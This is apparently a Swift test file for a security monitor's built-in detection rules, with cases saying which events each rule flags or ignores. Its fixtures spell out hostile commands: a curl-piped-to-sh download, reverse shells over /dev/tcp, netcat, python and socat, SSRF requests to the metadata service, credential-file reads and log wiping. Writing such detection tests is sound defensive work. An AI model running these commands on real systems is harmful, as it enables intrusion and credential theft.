import Foundation
import Testing
import VigilAuditLog
import VigilCloudEvents
import VigilCore
import VigilRules
import VigilTestKit

// Tests of Vigil's built-in rule pack (Sources/VigilRules/BuiltinRules).
//
// Third-party data used (read from ../shared/data, see its README):
// - mitre/enterprise_techniques.tsv: ATT&CK v18.1 (mitre/cti @421deacb), ATT&CK terms of use.
// - k8s-audit/falco/k8s_audit/*.json: real audit events (falcosecurity/falco @2583ea9b), Apache-2.0.
// - k8s-audit/panther/kubernetes_rules.tests.jsonl and cloudtrail/panther/aws_cloudtrail_rules.tests.jsonl:
//   labelled records (panther-labs/panther-analysis @daa10c88), Apache-2.0.
// - rules/falco/falco_rules.yaml (falcosecurity/rules @c72713ee), Apache-2.0.

// MARK: - Application cases

/// One application rule checked on one request served or URL fetched.
struct ApplicationCase: Sendable {
    let rule: String
    let fires: Bool
    let event: @Sendable (inout EventBuilder) -> Event
}

private let metadataServer = SocketAddress(address: IPAddress(v4: 169, 254, 169, 254), port: 80)

let applicationCases: [ApplicationCase] = [
    ApplicationCase(rule: "vigil.application.ssrf-metadata-parameter", fires: true) {
        $0.httpRequest(
            pid: 7, route: "/fetch", path: "/fetch",
            parameters: "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    },
    ApplicationCase(rule: "vigil.application.ssrf-metadata-parameter", fires: true) {
        $0.httpRequest(pid: 7, route: "/fetch", path: "/fetch", parameters: "url=http://0xA9FEA9FE/latest/")
    },
    ApplicationCase(rule: "vigil.application.ssrf-metadata-parameter", fires: false) {
        $0.httpRequest(pid: 7, route: "/fetch", path: "/fetch", parameters: "url=https://example.org/a.png")
    },
    ApplicationCase(rule: "vigil.application.metadata-fetch", fires: true) {
        $0.httpFetch(pid: 7, host: "169.254.169.254", address: metadataServer, path: "/latest/meta-data/")
    },
    ApplicationCase(rule: "vigil.application.metadata-fetch", fires: true) {
        $0.httpFetch(pid: 7, host: "metadata.google.internal", path: "/computeMetadata/v1/")
    },
    ApplicationCase(rule: "vigil.application.metadata-fetch", fires: false) {
        $0.httpFetch(pid: 7, host: "catalog.internal", path: "/items")
    },
    ApplicationCase(rule: "vigil.application.path-traversal", fires: true) {
        $0.httpRequest(pid: 7, route: "/download", path: "/download", parameters: "file=../../../../etc/passwd")
    },
    ApplicationCase(rule: "vigil.application.path-traversal", fires: false) {
        $0.httpRequest(pid: 7, route: "/download", path: "/download", parameters: "file=reports/q3.pdf")
    },
]

// MARK: - Workload cases

/// One workload rule checked on a sequence of events: the last event is the one under test, the earlier ones
/// set up its process (a parent's exec, the process's own exec).
struct WorkloadCase: Sendable, CustomTestStringConvertible {
    let rule: String
    let fires: Bool
    let what: String
    let onHost: Bool
    let events: @Sendable (inout WorkloadEvents) -> [Event]

    var testDescription: String { "\(rule) \(fires ? "fires on" : "ignores") \(what)" }
}

private func fires(
    _ rule: String, _ what: String, onHost: Bool = false,
    _ events: @escaping @Sendable (inout WorkloadEvents) -> [Event]
) -> WorkloadCase {
    WorkloadCase(rule: rule, fires: true, what: what, onHost: onHost, events: events)
}

private func ignores(
    _ rule: String, _ what: String, onHost: Bool = false,
    _ events: @escaping @Sendable (inout WorkloadEvents) -> [Event]
) -> WorkloadCase {
    WorkloadCase(rule: rule, fires: false, what: what, onHost: onHost, events: events)
}

/// O_WRONLY|O_CREAT|O_TRUNC, what a shell's `>` passes; O_WRONLY|O_CREAT|O_APPEND, what `>>` and loggers pass.
private let truncating: UInt32 = 0x241
private let appending: UInt32 = 0x441

let workloadCases: [WorkloadCase] = [
    // Shell spawned by a server.
    fires("vigil.workload.shell-from-server", "sh started by an nginx worker") { e in
        [
            e.exec(pid: 100, "/usr/sbin/nginx", ["nginx: worker process"]),
            e.exec(pid: 101, parent: 100, "/bin/sh", ["sh", "-c", "id; uname -a"]),
        ]
    },
    fires("vigil.workload.shell-from-server", "bash started by gunicorn (a python process)") { e in
        [
            e.exec(pid: 100, "/usr/bin/python3.12", ["/usr/bin/python3", "/usr/local/bin/gunicorn", "app:app"]),
            e.exec(pid: 101, parent: 100, "/usr/bin/bash", ["bash", "-c", "curl -s http://203.0.113.9/x | sh"]),
        ]
    },
    fires("vigil.workload.shell-from-server", "busybox sh started by php-fpm") { e in
        [
            e.exec(pid: 100, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"]),
            e.exec(pid: 101, parent: 100, "/bin/busybox", ["sh", "-c", "wget -qO- http://203.0.113.9/s"]),
        ]
    },
    ignores("vigil.workload.shell-from-server", "a login shell started by sshd") { e in
        [
            e.exec(pid: 100, "/usr/sbin/sshd", ["sshd: alice [priv]"]),
            e.exec(pid: 101, parent: 100, "/usr/bin/bash", ["-bash"]),
        ]
    },
    ignores("vigil.workload.shell-from-server", "a non-shell program started by java") { e in
        [
            e.exec(pid: 100, "/usr/lib/jvm/bin/java", ["java", "-jar", "app.jar"]),
            e.exec(pid: 101, parent: 100, "/usr/bin/convert", ["convert", "in.png", "out.jpg"]),
        ]
    },

    // Programs run from temporary folders.
    fires("vigil.workload.exec-from-temp-dir", "a binary in /tmp") { e in
        [e.exec(pid: 200, "/tmp/.X11-unix/kdevtmpfsi", ["kdevtmpfsi"])]
    },
    fires("vigil.workload.exec-from-temp-dir", "a binary in /dev/shm") { e in
        [e.exec(pid: 200, "/dev/shm/.x", ["x"])]
    },
    fires("vigil.workload.exec-from-temp-dir", "a script in /tmp run through its #! interpreter") { e in
        [e.exec(pid: 200, "/usr/bin/dash", ["/bin/sh", "/tmp/i.sh"], filename: "/tmp/i.sh")]
    },
    ignores("vigil.workload.exec-from-temp-dir", "a binary in /usr/bin") { e in
        [e.exec(pid: 200, "/usr/bin/curl", ["curl", "-s", "https://example.com"])]
    },
    ignores("vigil.workload.exec-from-temp-dir", "a go test binary (excepted)") { e in
        [e.exec(pid: 200, "/tmp/go-build3620951/b001/exe/main", ["main"])]
    },

    // Fileless execution.
    fires("vigil.workload.fileless-exec", "a memfd executed through /proc/self/fd") { e in
        [e.exec(pid: 300, "/memfd:payload (deleted)", ["[kworker/0:1]"], filename: "/proc/self/fd/3")]
    },
    fires("vigil.workload.fileless-exec", "fexecve of a descriptor (/dev/fd/N)") { e in
        [e.exec(pid: 300, "/", ["x"], filename: "/dev/fd/4")]
    },
    ignores("vigil.workload.fileless-exec", "a program on disk") { e in
        [e.exec(pid: 300, "/usr/bin/ls", ["ls", "-l"])]
    },
    ignores("vigil.workload.fileless-exec", "runc re-executing its sealed memfd copy") { e in
        [
            e.exec(
                pid: 300, "/memfd:runc_cloned:/proc/self/exe (deleted)", ["runc", "init"], filename: "/proc/self/fd/5")
        ]
    },

    // Reverse shells.
    fires("vigil.workload.reverse-shell", "bash -i redirected to /dev/tcp") { e in
        [e.exec(pid: 400, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])]
    },
    fires("vigil.workload.reverse-shell", "netcat -e /bin/sh") { e in
        [e.exec(pid: 400, "/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"])]
    },
    fires("vigil.workload.reverse-shell", "a python socket one-liner") { e in
        [
            e.exec(
                pid: 400, "/usr/bin/python3.11",
                [
                    "python3", "-c",
                    "import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
                ])
        ]
    },
    fires("vigil.workload.reverse-shell", "socat EXEC to a TCP address") { e in
        [e.exec(pid: 400, "/usr/bin/socat", ["socat", "exec:bash -li,pty,stderr", "tcp:203.0.113.9:4444"])]
    },
    fires("vigil.workload.reverse-shell", "an interactive shell started by ncat") { e in
        [
            e.exec(pid: 400, "/usr/bin/ncat", ["ncat", "-l", "4444"]),
            e.exec(pid: 401, parent: 400, "/bin/sh", ["sh", "-i"]),
        ]
    },
    ignores("vigil.workload.reverse-shell", "a netcat port check") { e in
        [e.exec(pid: 400, "/usr/bin/nc", ["nc", "-zv", "db", "5432"])]
    },
    ignores("vigil.workload.reverse-shell", "a python server script named socket_server.py") { e in
        [e.exec(pid: 400, "/usr/bin/python3", ["python3", "/srv/app/socket_server.py"])]
    },
    ignores("vigil.workload.reverse-shell", "a shell redirecting to /dev/null") { e in
        [e.exec(pid: 400, "/usr/bin/bash", ["bash", "-c", "echo ok > /dev/null"])]
    },

    // Kernel modules.
    fires("vigil.workload.kernel-module-load", "insmod of a module from /tmp", onHost: true) { e in
        [e.moduleLoad("/tmp/.rk/diamorphine.ko", by: "/usr/sbin/insmod")]
    },
    fires("vigil.workload.kernel-module-load", "a module loaded from a container") { e in
        [e.moduleLoad("init_module:", fromFile: false, by: "/tmp/x")]
    },
    ignores("vigil.workload.kernel-module-load", "the kernel's on-demand modprobe", onHost: true) { e in
        [
            e.exec(pid: 300, "/usr/sbin/modprobe", ["/sbin/modprobe", "-q", "--", "net-pf-10"]),
            e.moduleLoad("/lib/modules/6.18.0/kernel/net/ipv6/ipv6.ko", by: "/usr/sbin/modprobe"),
        ]
    },
    ignores("vigil.workload.kernel-module-load", "udev's coldplug", onHost: true) { e in
        [e.moduleLoad("/lib/modules/6.18.0/kernel/drivers/net/virtio_net.ko", by: "/usr/lib/systemd/systemd-udevd")]
    },

    // ptrace.
    fires("vigil.workload.ptrace-attach", "PTRACE_ATTACH by an unknown program") { e in
        [e.ptrace(16, by: "/tmp/inject")]
    },
    fires("vigil.workload.ptrace-attach", "PTRACE_SEIZE") { e in [e.ptrace(0x4206, by: "/usr/local/bin/x")] },
    fires("vigil.workload.ptrace-attach", "PTRACE_POKEDATA") { e in [e.ptrace(5, by: "/usr/local/bin/x")] },
    ignores("vigil.workload.ptrace-attach", "gdb attaching") { e in [e.ptrace(16, by: "/usr/bin/gdb")] },
    ignores("vigil.workload.ptrace-attach", "PTRACE_TRACEME") { e in [e.ptrace(0, by: "/usr/bin/app")] },

    // Packet and raw sockets.
    fires("vigil.workload.packet-socket", "a packet socket in a container") { e in
        [e.socket(.packet, by: "/tmp/.x/sniff")]
    },
    fires("vigil.workload.packet-socket", "a raw IP socket on the host", onHost: true) { e in
        [e.socket(.raw, by: "/usr/local/bin/arpspoof")]
    },
    fires("vigil.workload.packet-socket", "an attempt refused for lack of CAP_NET_RAW") { e in
        [e.socket(.packet, by: "/usr/bin/python3", result: -1)]
    },
    ignores("vigil.workload.packet-socket", "the host's DHCP client", onHost: true) { e in
        [e.socket(.packet, by: "/usr/sbin/dhclient")]
    },
    ignores("vigil.workload.packet-socket", "a TCP connection") { e in
        [e.connect(to: "10.0.0.8", port: 443, by: "/tmp/.x/sniff")]
    },

    // eBPF.
    fires("vigil.workload.bpf-program-load", "BPF_PROG_LOAD by an unknown program") { e in
        [e.bpf(5, programType: 2, name: "hide", by: "/tmp/loader")]
    },
    ignores("vigil.workload.bpf-program-load", "BPF_MAP_CREATE") { e in [e.bpf(0, by: "/tmp/loader")] },
    ignores("vigil.workload.bpf-program-load", "runc's device-cgroup program") { e in
        [e.bpf(5, programType: 15, by: "/usr/bin/runc")]
    },

    // Namespaces.
    fires("vigil.workload.container-unshare", "unshare -Urm in a container") { e in
        [e.namespace(.unshare, flags: 0x1002_0000, by: "/usr/bin/unshare")]
    },
    fires("vigil.workload.container-unshare", "a user namespace alone in a container") { e in
        [e.namespace(.unshare, flags: 0x1000_0000, by: "/tmp/exploit")]
    },
    ignores("vigil.workload.container-unshare", "unshare on the host", onHost: true) { e in
        [e.namespace(.unshare, flags: 0x1002_0000, by: "/usr/bin/unshare")]
    },
    ignores("vigil.workload.container-unshare", "a network namespace alone") { e in
        [e.namespace(.unshare, flags: 0x4000_0000, by: "/usr/bin/unshare")]
    },
    ignores("vigil.workload.container-unshare", "runc init setting up the container") { e in
        [
            e.exec(pid: 300, "/usr/bin/runc", ["runc", "init"]),
            e.namespace(.unshare, flags: 0x1000_0000, by: "/usr/bin/runc"),
        ]
    },
    fires("vigil.workload.container-setns", "nsenter in a container") { e in
        [e.namespace(.setns, flags: 0x2_0000, source: "mnt:[4026531841]", by: "/usr/bin/nsenter")]
    },
    ignores("vigil.workload.container-setns", "nsenter on the host", onHost: true) { e in
        [e.namespace(.setns, flags: 0x2_0000, source: "mnt:[4026532301]", by: "/usr/bin/nsenter")]
    },
    ignores("vigil.workload.container-setns", "runc exec joining the container") { e in
        [
            e.exec(pid: 300, "/usr/bin/runc", ["runc", "init"]),
            e.namespace(.setns, flags: 0, source: "mnt:[4026532301]", by: "/usr/bin/runc"),
        ]
    },
    fires("vigil.workload.container-mount", "the host's disk mounted in a container") { e in
        [
            e.namespace(
                .mount, flags: 0, source: "/dev/sda1", target: "/mnt/host", filesystem: "ext4", by: "/usr/bin/mount")
        ]
    },
    fires("vigil.workload.container-mount", "a cgroup v1 hierarchy mounted in a container") { e in
        [e.namespace(.mount, flags: 0, source: "cgroup", target: "/tmp/cg", filesystem: "cgroup", by: "/usr/bin/mount")]
    },
    ignores("vigil.workload.container-mount", "a tmpfs in a container") { e in
        [e.namespace(.mount, flags: 0, source: "tmpfs", target: "/scratch", filesystem: "tmpfs", by: "/usr/bin/mount")]
    },
    ignores("vigil.workload.container-mount", "a disk mounted on the host", onHost: true) { e in
        [
            e.namespace(
                .mount, flags: 0, source: "/dev/sda1", target: "/mnt/data", filesystem: "ext4", by: "/usr/bin/mount")
        ]
    },
    fires("vigil.workload.container-kernel-trigger-write", "core_pattern written from a container") { e in
        [e.write("/proc/sys/kernel/core_pattern", by: "/bin/sh")]
    },
    fires("vigil.workload.container-kernel-trigger-write", "a cgroup release_agent written from a container") { e in
        [e.write("/tmp/cgrp/release_agent", by: "/bin/sh")]
    },
    ignores("vigil.workload.container-kernel-trigger-write", "core_pattern read from a container") { e in
        [e.read("/proc/sys/kernel/core_pattern", by: "/usr/bin/cat")]
    },
    ignores("vigil.workload.container-kernel-trigger-write", "core_pattern set on the host", onHost: true) { e in
        [e.write("/proc/sys/kernel/core_pattern", by: "/usr/lib/systemd/systemd-sysctl")]
    },

    // Setuid bits.
    fires("vigil.workload.setuid-bit-set", "chmod 4755 on a copy of a shell") { e in
        [e.file(.fileChmod, by: "/usr/bin/chmod", path: "/tmp/.sh", mode: 0o4755)]
    },
    fires("vigil.workload.setuid-bit-set", "chmod 2755") { e in
        [e.file(.fileChmod, by: "/usr/bin/chmod", path: "/srv/x", mode: 0o2755)]
    },
    ignores("vigil.workload.setuid-bit-set", "chmod 755") { e in
        [e.file(.fileChmod, by: "/usr/bin/chmod", path: "/srv/x", mode: 0o755)]
    },
    ignores("vigil.workload.setuid-bit-set", "a sticky folder (1777)") { e in
        [e.file(.fileChmod, by: "/usr/bin/chmod", path: "/srv/tmp", mode: 0o1777)]
    },
    ignores("vigil.workload.setuid-bit-set", "dpkg installing a setuid program") { e in
        [e.file(.fileChmod, by: "/usr/bin/dpkg", path: "/usr/bin/passwd", mode: 0o4755)]
    },

    // Credential files.
    fires("vigil.workload.read-shadow", "cat /etc/shadow") { e in [e.read("/etc/shadow", by: "/usr/bin/cat")] },
    ignores("vigil.workload.read-shadow", "unix_chkpwd reading it") { e in
        [e.read("/etc/shadow", by: "/usr/sbin/unix_chkpwd")]
    },
    ignores("vigil.workload.read-shadow", "cat /etc/passwd") { e in [e.read("/etc/passwd", by: "/usr/bin/cat")] },
    fires("vigil.workload.read-sudoers", "a script reading sudoers.d") { e in
        [e.read("/etc/sudoers.d/90-cloud-init-users", by: "/usr/bin/python3")]
    },
    ignores("vigil.workload.read-sudoers", "sudo reading its policy") { e in
        [e.read("/etc/sudoers", by: "/usr/bin/sudo")]
    },
    fires("vigil.workload.read-ssh-private-key", "python reading a user's private key") { e in
        [e.read("/home/alice/.ssh/id_ed25519", by: "/usr/bin/python3")]
    },
    fires("vigil.workload.read-ssh-private-key", "tar reading the host's key") { e in
        [e.read("/etc/ssh/ssh_host_ed25519_key", by: "/usr/bin/tar")]
    },
    ignores("vigil.workload.read-ssh-private-key", "ssh reading its key") { e in
        [e.read("/root/.ssh/id_rsa", by: "/usr/bin/ssh")]
    },
    ignores("vigil.workload.read-ssh-private-key", "a public key") { e in
        [e.read("/home/alice/.ssh/id_ed25519.pub", by: "/usr/bin/cat")]
    },
    fires("vigil.workload.read-cloud-credentials", "a python script reading ~/.aws/credentials") { e in
        [
            e.exec(pid: 300, "/usr/bin/python3", ["python3", "/tmp/s.py"]),
            e.read("/root/.aws/credentials", by: "/usr/bin/python3"),
        ]
    },
    fires("vigil.workload.read-cloud-credentials", "tar reading gcloud's credentials") { e in
        [e.read("/home/bob/.config/gcloud/application_default_credentials.json", by: "/usr/bin/tar")]
    },
    fires("vigil.workload.read-cloud-credentials", "a kubeconfig read in an app's home") { e in
        [e.read("/app/.kube/config", by: "/usr/bin/curl")]
    },
    ignores("vigil.workload.read-cloud-credentials", "the aws CLI") { e in
        [e.read("/root/.aws/credentials", by: "/usr/local/bin/aws")]
    },
    ignores("vigil.workload.read-cloud-credentials", "gcloud (a python program)") { e in
        [
            e.exec(
                pid: 300, "/usr/bin/python3", ["python3", "/usr/lib/google-cloud-sdk/lib/gcloud.py", "auth", "list"]),
            e.read("/root/.config/gcloud/credentials.db", by: "/usr/bin/python3"),
        ]
    },
    ignores("vigil.workload.read-cloud-credentials", "~/.aws/config") { e in
        [e.read("/root/.aws/config", by: "/usr/bin/cat")]
    },
    fires("vigil.workload.read-serviceaccount-token", "cat of the pod's token") { e in
        [e.read("/var/run/secrets/kubernetes.io/serviceaccount/token", by: "/usr/bin/cat")]
    },
    fires("vigil.workload.read-serviceaccount-token", "an IRSA token") { e in
        [e.read("/var/run/secrets/eks.amazonaws.com/serviceaccount/token", by: "/usr/bin/cat")]
    },
    ignores("vigil.workload.read-serviceaccount-token", "the cluster CA next to it") { e in
        [e.read("/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", by: "/usr/bin/cat")]
    },
    fires("vigil.workload.link-to-sensitive-file", "a symlink to /etc/shadow in the web root") { e in
        [e.file(.fileSymlink, by: "/usr/bin/ln", path: "/etc/shadow", target: "/var/www/html/robots.txt")]
    },
    fires("vigil.workload.link-to-sensitive-file", "a hard link to sudoers") { e in
        [e.file(.fileLink, by: "/usr/bin/ln", path: "/etc/sudoers", target: "/tmp/s")]
    },
    ignores("vigil.workload.link-to-sensitive-file", "a symlink to python") { e in
        [e.file(.fileSymlink, by: "/usr/bin/ln", path: "/usr/bin/python3", target: "/usr/local/bin/python")]
    },

    // Metadata service and Kubernetes API.
    fires("vigil.workload.container-metadata-access", "curl to 169.254.169.254 from a container") { e in
        [e.connect(to: "169.254.169.254", port: 80, by: "/usr/bin/curl")]
    },
    fires("vigil.workload.container-metadata-access", "a JVM's IPv4-mapped connect to it") { e in
        [e.connect(to: "::ffff:169.254.169.254", port: 80, by: "/usr/lib/jvm/bin/java")]
    },
    fires("vigil.workload.container-metadata-access", "metadata.google.internal resolved") { e in
        [e.dns("metadata.google.internal", by: "/usr/bin/curl")]
    },
    ignores("vigil.workload.container-metadata-access", "the node itself", onHost: true) { e in
        [e.connect(to: "169.254.169.254", port: 80, by: "/usr/bin/amazon-ssm-agent")]
    },
    ignores("vigil.workload.container-metadata-access", "a service on port 80") { e in
        [e.connect(to: "10.0.0.5", port: 80, by: "/usr/bin/curl")]
    },
    fires("vigil.workload.container-kubernetes-api", "a connect to port 6443") { e in
        [e.connect(to: "10.0.0.1", port: 6443, by: "/usr/bin/curl")]
    },
    fires("vigil.workload.container-kubernetes-api", "kubernetes.default.svc resolved") { e in
        [e.dns("kubernetes.default.svc.cluster.local", by: "/usr/bin/curl")]
    },
    ignores("vigil.workload.container-kubernetes-api", "the kubelet on the host", onHost: true) { e in
        [e.connect(to: "10.0.0.1", port: 6443, by: "/usr/bin/kubelet")]
    },
    ignores("vigil.workload.container-kubernetes-api", "an HTTPS service") { e in
        [e.connect(to: "10.96.0.20", port: 443, by: "/usr/bin/curl")]
    },

    // Persistence files.
    fires("vigil.workload.ld-preload-write", "echo into /etc/ld.so.preload") { e in
        [e.write("/etc/ld.so.preload", by: "/usr/bin/bash")]
    },
    fires("vigil.workload.ld-preload-write", "a file renamed onto it") { e in
        [e.file(.fileRename, by: "/usr/bin/mv", path: "/tmp/p", target: "/etc/ld.so.preload")]
    },
    ignores("vigil.workload.ld-preload-write", "the dynamic loader reading it") { e in
        [e.read("/etc/ld.so.preload", by: "/usr/bin/ls")]
    },
    fires("vigil.workload.cron-write", "a file written in /etc/cron.d") { e in
        [e.write("/etc/cron.d/.update", by: "/usr/bin/bash")]
    },
    fires("vigil.workload.cron-write", "crontab installing a user crontab") { e in
        [
            e.file(
                .fileRename, by: "/usr/bin/crontab", path: "/var/spool/cron/crontabs/tmp.X1f2",
                target: "/var/spool/cron/crontabs/root")
        ]
    },
    ignores("vigil.workload.cron-write", "dpkg installing a package's cron job") { e in
        [e.write("/etc/cron.daily/apt-compat", by: "/usr/bin/dpkg")]
    },
    ignores("vigil.workload.cron-write", "cron reading /etc/crontab") { e in
        [e.read("/etc/crontab", by: "/usr/sbin/cron")]
    },
    fires("vigil.workload.systemd-unit-write", "a service file written in /etc/systemd/system") { e in
        [e.write("/etc/systemd/system/sysupdate.service", by: "/usr/bin/bash")]
    },
    fires("vigil.workload.systemd-unit-write", "a user unit") { e in
        [e.write("/root/.config/systemd/user/agent.service", by: "/usr/bin/python3")]
    },
    ignores("vigil.workload.systemd-unit-write", "systemctl enable's link") { e in
        [
            e.file(
                .fileSymlink, by: "/usr/bin/systemctl", path: "/lib/systemd/system/nginx.service",
                target: "/etc/systemd/system/multi-user.target.wants/nginx.service")
        ]
    },
    ignores("vigil.workload.systemd-unit-write", "a package's unit installed by a dpkg child") { e in
        [
            e.exec(pid: 299, "/usr/bin/dpkg", ["dpkg", "-i", "nginx.deb"]),
            e.exec(pid: 300, parent: 299, "/usr/bin/dash", ["/bin/sh", "/var/lib/dpkg/info/nginx.postinst"]),
            e.write("/lib/systemd/system/nginx.service", by: "/usr/bin/dash"),
        ]
    },
    fires("vigil.workload.account-database-write", "a uid 0 line appended to /etc/passwd") { e in
        [e.write("/etc/passwd", by: "/usr/bin/bash")]
    },
    fires("vigil.workload.account-database-write", "a file renamed over /etc/shadow") { e in
        [e.file(.fileRename, by: "/usr/bin/python3", path: "/etc/shadow.tmp", target: "/etc/shadow")]
    },
    ignores("vigil.workload.account-database-write", "useradd") { e in [e.write("/etc/passwd", by: "/usr/sbin/useradd")]
    },
    ignores("vigil.workload.account-database-write", "id reading /etc/passwd") { e in
        [e.read("/etc/passwd", by: "/usr/bin/id")]
    },
    fires("vigil.workload.sudoers-write", "tee into /etc/sudoers.d") { e in
        [e.write("/etc/sudoers.d/zz", by: "/usr/bin/tee")]
    },
    ignores("vigil.workload.sudoers-write", "sudo reading it") { e in [e.read("/etc/sudoers", by: "/usr/bin/sudo")] },
    ignores("vigil.workload.sudoers-write", "dpkg installing sudo's README") { e in
        [e.write("/etc/sudoers.d/README", by: "/usr/bin/dpkg")]
    },
    fires("vigil.workload.ssh-authorized-keys-write", "a key appended to root's authorized_keys") { e in
        [e.write("/root/.ssh/authorized_keys", by: "/usr/bin/bash")]
    },
    ignores("vigil.workload.ssh-authorized-keys-write", "the Google guest agent") { e in
        [e.write("/home/alice/.ssh/authorized_keys", by: "/usr/bin/google_guest_agent")]
    },
    ignores("vigil.workload.ssh-authorized-keys-write", "sshd reading it") { e in
        [e.read("/root/.ssh/authorized_keys", by: "/usr/sbin/sshd")]
    },
    fires("vigil.workload.shell-startup-write", "a line appended to ~/.bashrc") { e in
        [e.write("/home/alice/.bashrc", by: "/usr/bin/bash")]
    },
    fires("vigil.workload.shell-startup-write", "a script dropped in /etc/profile.d") { e in
        [e.write("/etc/profile.d/zz.sh", by: "/usr/bin/curl")]
    },
    ignores("vigil.workload.shell-startup-write", "bash reading /etc/profile") { e in
        [e.read("/etc/profile", by: "/usr/bin/bash")]
    },
    ignores("vigil.workload.shell-startup-write", "dpkg updating /etc/bash.bashrc") { e in
        [e.write("/etc/bash.bashrc", by: "/usr/bin/dpkg")]
    },

    // Clearing traces.
    fires("vigil.workload.log-clear", "rm of /var/log/auth.log") { e in
        [e.file(.fileUnlink, by: "/usr/bin/rm", path: "/var/log/auth.log")]
    },
    fires("vigil.workload.log-clear", "> /var/log/wtmp") { e in
        [e.file(.fileOpen, by: "/usr/bin/bash", path: "/var/log/wtmp", flags: truncating, result: 3)]
    },
    ignores("vigil.workload.log-clear", "logrotate removing an old log") { e in
        [e.file(.fileUnlink, by: "/usr/sbin/logrotate", path: "/var/log/syslog.7.gz")]
    },
    ignores("vigil.workload.log-clear", "rsyslogd appending") { e in
        [e.file(.fileOpen, by: "/usr/sbin/rsyslogd", path: "/var/log/syslog", flags: appending, result: 3)]
    },
    fires("vigil.workload.log-wipe-command", "shred -u /var/log/auth.log") { e in
        [e.exec(pid: 300, "/usr/bin/shred", ["shred", "-u", "/var/log/auth.log"])]
    },
    fires("vigil.workload.log-wipe-command", "journalctl --vacuum-time=1s") { e in
        [e.exec(pid: 300, "/usr/bin/journalctl", ["journalctl", "--vacuum-time=1s"])]
    },
    ignores("vigil.workload.log-wipe-command", "truncate of a temporary file") { e in
        [e.exec(pid: 300, "/usr/bin/truncate", ["truncate", "-s", "0", "/tmp/x"])]
    },
    ignores("vigil.workload.log-wipe-command", "journalctl reading a unit's log") { e in
        [e.exec(pid: 300, "/usr/bin/journalctl", ["journalctl", "-u", "nginx"])]
    },
    fires("vigil.workload.shell-history-clear", "rm ~/.bash_history") { e in
        [e.file(.fileUnlink, by: "/usr/bin/rm", path: "/root/.bash_history")]
    },
    fires("vigil.workload.shell-history-clear", "ln -s /dev/null ~/.bash_history") { e in
        [e.file(.fileSymlink, by: "/usr/bin/ln", path: "/dev/null", target: "/root/.bash_history")]
    },
    fires("vigil.workload.shell-history-clear", "cp /dev/null over ~/.zsh_history") { e in
        [e.file(.fileOpen, by: "/usr/bin/cp", path: "/home/alice/.zsh_history", flags: truncating, result: 3)]
    },
    ignores("vigil.workload.shell-history-clear", "bash trimming its own history") { e in
        [e.file(.fileOpen, by: "/usr/bin/bash", path: "/root/.bash_history", flags: 0x201, result: 3)]
    },
    ignores("vigil.workload.shell-history-clear", "bash appending to its history") { e in
        [e.file(.fileOpen, by: "/usr/bin/bash", path: "/root/.bash_history", flags: appending, result: 3)]
    },

    // Crypto mining.
    fires("vigil.workload.mining-pool-dns", "pool.supportxmr.com") { e in [e.dns("pool.supportxmr.com", by: "/tmp/x")]
    },
    fires("vigil.workload.mining-pool-dns", "xmr-eu1.nanopool.org") { e in
        [e.dns("xmr-eu1.nanopool.org", by: "/tmp/x")]
    },
    fires("vigil.workload.mining-pool-dns", "GULF.MoneroOcean.stream (any case)") { e in
        [e.dns("GULF.MoneroOcean.stream", by: "/tmp/x")]
    },
    ignores("vigil.workload.mining-pool-dns", "api.github.com") { e in [e.dns("api.github.com", by: "/usr/bin/git")] },
    fires("vigil.workload.miner-exec", "xmrig") { e in
        [e.exec(pid: 300, "/tmp/.cache/xmrig", ["xmrig", "-c", "config.json"])]
    },
    fires("vigil.workload.miner-exec", "a renamed miner given a stratum URL") { e in
        [
            e.exec(
                pid: 300, "/var/tmp/.x/systemd-helper",
                [
                    "systemd-helper", "-o", "stratum+tcp://203.0.113.50:3333", "-u",
                    "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx",
                ])
        ]
    },
    ignores("vigil.workload.miner-exec", "a python application") { e in
        [e.exec(pid: 300, "/usr/bin/python3", ["python3", "app.py", "--port", "3333"])]
    },
    fires("vigil.workload.mining-pool-port", "a connect to a public address on 3333") { e in
        [e.connect(to: "198.51.100.7", port: 3333, by: "/tmp/x")]
    },
    fires("vigil.workload.mining-pool-port", "a connect to a public address on 14444") { e in
        [e.connect(to: "198.51.100.7", port: 14444, by: "/tmp/x")]
    },
    ignores("vigil.workload.mining-pool-port", "an internal service on 3333") { e in
        [e.connect(to: "10.0.0.7", port: 3333, by: "/usr/bin/grafana")]
    },
    ignores("vigil.workload.mining-pool-port", "HTTPS") { e in [e.connect(to: "198.51.100.7", port: 443, by: "/tmp/x")]
    },
]

// MARK: - Cloud cases

/// One cloud rule checked on one CloudTrail-shaped event.
struct CloudCase: Sendable, CustomTestStringConvertible {
    let rule: String
    let fires: Bool
    let service: String
    let action: String
    var principal = "arn:aws:iam::111122223333:user/alice"
    var error = ""
    var mfa = false

    var testDescription: String {
        "\(rule) \(fires ? "fires on" : "ignores") \(service):\(action)\(error.isEmpty ? "" : " (\(error))")"
            + (principal.hasSuffix(":user/alice") ? "" : " by \(principal)") + (mfa ? " with MFA" : "")
    }

    func event(_ symbols: SymbolTable) -> Event {
        Event(
            time: 1_795_910_400_000_000_000, kind: .cloudAPICall, principal: symbols.intern(principal),
            fields: .cloud(
                CloudFields(
                    provider: .aws, service: symbols.intern(service), action: symbols.intern(action),
                    region: symbols.intern("eu-west-1"), account: symbols.intern("111122223333"),
                    accessKey: symbols.intern("AKIAEXAMPLE"), sourceAddress: IPAddress("203.0.113.7")!,
                    userAgent: symbols.intern("aws-cli/2.15"), errorCode: symbols.intern(error),
                    resource: symbols.intern("target"), flags: mfa ? [.mfaAuthenticated] : [])))
    }
}

private func cloud(_ rule: String, fires: Bool, _ service: String, _ action: String, error: String = "") -> CloudCase {
    CloudCase(rule: rule, fires: fires, service: service, action: action, error: error)
}

let cloudCases: [CloudCase] = [
    cloud("vigil.cloud.cloudtrail-stopped", fires: true, "cloudtrail", "StopLogging"),
    cloud("vigil.cloud.cloudtrail-stopped", fires: true, "cloudtrail", "StopLogging", error: "AccessDenied"),
    cloud("vigil.cloud.cloudtrail-stopped", fires: false, "cloudtrail", "StartLogging"),
